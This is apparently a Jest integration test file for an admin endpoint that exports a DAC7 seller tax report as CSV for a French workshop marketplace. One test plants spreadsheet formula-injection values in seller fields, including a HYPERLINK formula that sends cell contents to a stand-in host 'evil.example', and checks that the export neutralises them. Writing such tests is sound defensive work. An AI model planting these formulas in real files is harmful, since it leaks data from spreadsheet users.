import { DAC7_DETAIL_LABELS, DAC7_YEAR_MESSAGE, WORKSHOP_TOTAL_CENTS } from '@ptits-mitrons/domain';
import { DAC7_COLUMNS } from '../../../backend/src/dac7/dac7-report.service';
import { eq } from 'drizzle-orm';
import { merchantPayoutDetails } from '../../../backend/src/payout-details/payout-details.schema';
import { merchantRequests } from '../../../backend/src/merchants/merchants.schema';
import type { TestApp } from '../../support/app';
import { approvedMerchant, createSpaceApp } from '../merchant-space/support';
import { companyForm } from '../payout-details/support';
import { parseCsv, sentBatch } from './support';

describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
  let t: TestApp;
  let company: { id: string; token: string };
  let person: { id: string; token: string };
  let unpaid: { id: string; token: string };
  let nextYear: { id: string; token: string };

  beforeAll(async () => {
    ({ t } = await createSpaceApp());
    company = await approvedMerchant(t, { email: 'dac7.societe@example.fr', establishment_name: 'Aaa Boulangerie, "du Parc"' });
    person = await approvedMerchant(t, { email: 'dac7.personne@example.fr', establishment_name: 'Bbb Pâtisserie' });
    unpaid = await approvedMerchant(t, { email: 'dac7.rien@example.fr', establishment_name: 'Ccc Chocolaterie' });
    nextYear = await approvedMerchant(t, { email: 'dac7.suivant@example.fr', establishment_name: 'Ddd Fromagerie' });
    await t.http().put(`/api/merchant-space/${company.token}/payout-details`).send(companyForm()).expect(200);
    await t
      .http()
      .put(`/api/merchant-space/${person.token}/payout-details`)
      .send({ ...companyForm(), seller_type: 'individual', vat_number: null, legal_name: 'Jeanne Martin', first_name: 'Jeanne', last_name: 'Martin' })
      .expect(200);

    // Q1 2026 in Paris: from 2026-01-01 00:00 (2025-12-31 23:00 UTC) to 2026-03-31 23:59.
    await sentBatch(t, new Date('2025-12-31T22:59:00Z'), [{ merchant: company.id, amount: 11000 }]);
    const [first] = await sentBatch(t, new Date('2025-12-31T23:00:00Z'), [{ merchant: company.id, amount: 15000 }]);
    await sentBatch(t, new Date('2026-03-31T21:30:00Z'), [
      { merchant: company.id, amount: 12000 },
      { merchant: company.id, amount: 12000 },
    ]);
    // 2026-04-01 00:30 in Paris: Q2. The debt of a refunded workshop lowers the amount.
    await sentBatch(t, new Date('2026-03-31T22:30:00Z'), [
      { merchant: company.id, amount: 12000 },
      { merchant: company.id, kind: 'refund_debt', amount: -15000, workshop: first },
    ]);
    // Generated, never sent: not paid.
    await sentBatch(t, null, [{ merchant: company.id, amount: 12000 }]);
    await sentBatch(t, new Date('2026-11-10T10:00:00Z'), [{ merchant: person.id, amount: 13000 }]);
    await sentBatch(t, new Date('2026-12-31T23:00:00Z'), [{ merchant: nextYear.id, amount: 12000 }]);
  });
  afterAll(() => t.close());

  const report = async (year: number, status = 200) => t.http().get(`/api/admin/reports/dac7?year=${year}`).set(await t.adminAuth()).expect(status);

  it('writes one row per seller paid that year, the quarters from the transfers marked sent (Paris time)', async () => {
    const answer = await report(2026);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="dac7-2026.csv"');
    expect(answer.text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(answer.text.slice(1));
    expect(header).toEqual([...DAC7_COLUMNS]);
    const records = rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
    expect(records.map((r) => r.merchant_request_id)).toEqual([company.id, person.id]);
    const [c, p] = records;
    expect(c).toMatchObject({
      establishment_name: 'Aaa Boulangerie, "du Parc"',
      seller_type: 'company',
      legal_name: 'Boulangerie du Parc SARL',
      first_name: '',
      siren: '732829320',
      siret: '73282932000074',
      vat_number: 'FR44732829320',
      address_line: '3 rue des Forges',
      postal_code: '21000',
      city: 'Dijon',
      country: 'FR',
      iban: 'FR7630006000011234567890189',
      account_holder: 'Boulangerie du Parc',
      services_q1: '3',
      amount_q1: '390.00',
      fees_q1: ((3 * WORKSHOP_TOTAL_CENTS - 39000) / 100).toFixed(2),
      taxes_q1: '0.00',
      // The debt takes back the refunded workshop: one service fewer, and its fee (180 − 150 = 30 €) the platform never kept.
      services_q2: '0',
      amount_q2: '-30.00',
      fees_q2: '30.00',
      services_q3: '0',
      amount_q3: '0.00',
      services_q4: '0',
      services_total: '3',
      amount_total: '360.00',
      fees_total: '180.00',
      missing: '',
    });
    expect(p).toMatchObject({
      seller_type: 'individual',
      first_name: 'Jeanne',
      last_name: 'Martin',
      birth_date: '',
      tax_id: '',
      services_q4: '1',
      amount_q4: '130.00',
      fees_q4: '50.00',
      missing: `${DAC7_DETAIL_LABELS.birthDate} ; ${DAC7_DETAIL_LABELS.taxId}`,
    });

    // 2025 holds the transfer sent on 31 December at 23:59 in Paris; 2024 nothing.
    const [, ...rows2025] = parseCsv((await report(2025)).text.slice(1));
    expect(rows2025.map((row) => [row[0], row[header.indexOf('amount_q4')]])).toEqual([[company.id, '110.00']]);
    expect(parseCsv((await report(2024)).text.slice(1))).toHaveLength(1);
  });

  it('writes text cells a spreadsheet would run as formulas with a leading apostrophe, and amounts as numbers', async () => {
    const typed = await approvedMerchant(t, { email: 'dac7.formule@example.fr', establishment_name: 'Eee Formules' });
    await t.http().put(`/api/merchant-space/${typed.token}/payout-details`).send(companyForm()).expect(200);
    await t.db
      .update(merchantPayoutDetails)
      .set({ legalName: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', addressLine: '+33 rue du Calcul', city: '-Dijon', accountHolder: '@SUM(A1:A9)', postalCode: '\t21000' })
      .where(eq(merchantPayoutDetails.merchantRequestId, typed.id));
    await t.db.update(merchantRequests).set({ establishmentName: '\rEee Formules' }).where(eq(merchantRequests.id, typed.id));
    const [workshop] = await sentBatch(t, new Date('2027-02-01T10:00:00Z'), [{ merchant: typed.id, amount: 12000 }]);
    await sentBatch(t, new Date('2027-05-01T10:00:00Z'), [{ merchant: typed.id, kind: 'refund_debt', amount: -12000, workshop }]);

    const [header, row] = parseCsv((await report(2027)).text.slice(1));
    const record = Object.fromEntries(header.map((column, i) => [column, row[i]]));
    expect(record).toMatchObject({
      establishment_name: "'\rEee Formules",
      legal_name: `'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`,
      address_line: "'+33 rue du Calcul",
      city: "'-Dijon",
      postal_code: "'\t21000",
      account_holder: "'@SUM(A1:A9)",
      amount_q1: '120.00',
      amount_q2: '-120.00',
      fees_q2: '-60.00',
      services_q2: '-1',
      amount_total: '0.00',
      services_total: '0',
      fees_total: '0.00',
    });
  });

  it('lists the sellers paid that year and the active artisans whose details the report lacks', async () => {
    const { body } = await t.http().get('/api/admin/reports/dac7/incomplete?year=2026').set(await t.adminAuth()).expect(200);
    expect(body.year).toBe(2026);
    expect(body.sellers).toEqual([
      { merchant_request_id: person.id, establishment_name: 'Bbb Pâtisserie', email: 'dac7.personne@example.fr', paid_in_year: true, missing: [DAC7_DETAIL_LABELS.birthDate, DAC7_DETAIL_LABELS.taxId] },
      { merchant_request_id: unpaid.id, establishment_name: 'Ccc Chocolaterie', email: 'dac7.rien@example.fr', paid_in_year: false, missing: [DAC7_DETAIL_LABELS.details] },
      { merchant_request_id: nextYear.id, establishment_name: 'Ddd Fromagerie', email: 'dac7.suivant@example.fr', paid_in_year: false, missing: [DAC7_DETAIL_LABELS.details] },
    ]);
  });

  it.each([
    ['nothing', ''],
    ['letters', 'abc'],
    ['2019', '2019'],
    ['2101', '2101'],
    ['a decimal', '2026.5'],
    ['a decimal point', '2026.0'],
    ['a space', '%202026'],
    ['an exponent', '2e3'],
    ['a NUL byte', '%00'],
    ['invalid percent-encoding', '%E0%A4%A'],
    ['two years', '2026&year=2027'],
    ['10 KB', '1'.repeat(10_240)],
  ])('refuses a year of %s in French, never a 500', async (_label, year) => {
      for (const route of ['/api/admin/reports/dac7', '/api/admin/reports/dac7/incomplete']) {
        const answer = await t.http().get(`${route}?year=${year}`).set(await t.adminAuth());
        expect(answer.status).toBe(400);
        expect(typeof answer.body.message).toBe('string');
        if (!['%00', '%E0%A4%A'].includes(year)) expect(answer.body.message).toBe(DAC7_YEAR_MESSAGE);
      }
  });

  it('is for staff only', async () => {
    await t.http().get('/api/admin/reports/dac7?year=2026').expect(401);
    await t.http().get('/api/admin/reports/dac7/incomplete?year=2026').expect(401);
  });
});
